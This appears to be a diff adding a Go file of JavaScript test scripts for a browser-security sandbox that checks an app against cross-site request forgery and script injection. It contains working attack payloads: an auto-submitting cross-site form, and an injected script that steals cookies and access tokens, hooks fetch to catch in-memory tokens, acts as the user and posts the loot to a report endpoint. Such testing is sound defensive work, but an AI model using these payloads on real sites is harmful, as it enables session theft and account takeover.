@@ -1,0 +1,79 @@
+package labs
+
+// The scripts of the sandbox's pages. Each is the body of an async function of t, the trial's facts.
+
+// beginScript signs the user in at the app, as its own forms do, and goes on.
+const beginScript = `
+localStorage.clear();
+if (t.signsIn && t.keeps === 'storage') {
+  const answer = await fetch('/api/' + t.mode + '/login', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify(t.json)});
+  localStorage.setItem('access_token', (await answer.json()).access_token);
+} else if (t.signsIn) {
+  await fetch('/' + t.mode + '/login', {method: 'POST', body: new URLSearchParams(t.form), redirect: 'manual'});
+}
+location.replace(t.next);
+`
+
+// formScript is another site's page whose form writes a note in the app: the visitor need not press anything.
+const formScript = `
+const form = document.createElement('form');
+form.method = 'post';
+form.action = t.target;
+const field = document.createElement('input');
+field.type = 'hidden';
+field.name = 'body';
+field.value = t.note;
+form.append(field);
+document.body.append(form);
+form.submit();
+`
+
+// askScript is another site's page that calls the app's API, and then its own server in the same way.
+const askScript = `
+const init = {credentials: t.credentials ? 'include' : 'omit'};
+if (t.token) init.headers = {Authorization: 'Bearer ' + t.token};
+const read = await fetch(t.target, init).then((answer) => answer.status, () => 0);
+await fetch(t.hear, init);
+await fetch(t.here, {method: 'POST', credentials: 'omit', body: JSON.stringify({read})});
+location.replace(t.next);
+`
+
+// injectedScript is what an attacker got into a page of the app: it reads what it can, acts as the user, and carries
+// off what it found. Where the page keeps a token in memory, it listens to how the page fetches it.
+const injectedScript = `
+const real = window.fetch;
+let heard;
+const memory = new Promise((found) => { heard = found; });
+window.injected = (async () => {
+  const loot = {ran: true, cookies: document.cookie, token: localStorage.getItem('access_token') ?? ''};
+  if (t.keeps === 'memory') {
+    window.fetch = async (...asked) => {
+      const answer = await real(...asked);
+      answer.clone().json().then((body) => { if (body.access_token) heard(body.access_token); }, () => {});
+      return answer;
+    };
+    loot.token = await Promise.race([memory, new Promise((late) => setTimeout(late, 5000, ''))]);
+  }
+  const headers = {'Content-Type': 'application/json'};
+  if (loot.token) headers.Authorization = 'Bearer ' + loot.token;
+  await real(t.target, {method: 'POST', headers, body: JSON.stringify({body: t.note})});
+  await real(t.report, {method: 'POST', credentials: 'omit', body: JSON.stringify(loot)});
+})();
+`
+
+// goOnScript is of the app's own site, so that any policy lets it run: it leads the browser on from a page of the app.
+const goOnScript = `
+if (t.does === 'script') {
+  await window.injected;
+} else {
+  if (document.readyState !== 'complete') await new Promise((loaded) => addEventListener('load', loaded, {once: true}));
+  const home = () => document.querySelector('body[data-page=home]');
+  for (let i = 0; i < 50 && !home(); i++) await new Promise((later) => setTimeout(later, 100));
+  const styled = [...document.styleSheets].some((sheet) => sheet.href && !sheet.href.startsWith(location.origin));
+  await fetch(t.here, {method: 'POST', body: JSON.stringify({shown: Boolean(home()) && styled})});
+}
+location.replace(t.next);
+`
+
+// onScript leads on.
+const onScript = `location.replace(t.next);`
